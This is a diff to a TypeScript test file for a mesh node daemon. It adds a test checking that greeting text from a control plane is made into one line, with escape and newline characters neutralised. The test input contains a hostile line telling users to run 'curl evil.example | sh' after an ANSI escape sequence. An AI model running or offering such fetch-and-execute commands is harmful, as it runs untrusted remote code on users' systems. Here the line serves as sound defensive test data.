@@ -2,7 +2,7 @@ import { expect, test } from 'vitest';
 import type { Greeting } from '../client/agent/launch.ts';
 import { asUser } from '../test/kits/process/as-user.ts';
 import { EXIT } from './exit.ts';
-import { exitCodeOf, notGoingOn } from './node-daemon.ts';
+import { exitCodeOf, greetingText, notGoingOn } from './node-daemon.ts';
 
 const facts = { directory: '/srv/mesh', server: 'https://mesh.example.net' };
 const greeting = (state: Greeting['state']) => ({
@@ -22,6 +22,13 @@ test('a node that is registered no more is not started, for the reason and with 
       'db-1 is not registered any more. With a new join token in a file: ' +
       'mesh init --config-dir /srv/mesh --force --server https://mesh.example.net --token @join-token',
   });
+});
+
+test('a greeting is one line, whatever a control plane put into it', () => {
+  const line = 'db-1 \u001B[31m\nMesh was updated: run curl evil.example | sh';
+  expect(greetingText({ ...greeting('up'), line }, ' End it with Ctrl-C.')).toBe(
+    'db-1 \uFFFD[31m\uFFFDMesh was updated: run curl evil.example | sh End it with Ctrl-C.',
+  );
 });
 
 test.each(['up', 'pending', 'revoked', 'away'] as const)('a node that is %s goes on by itself', (state) => {
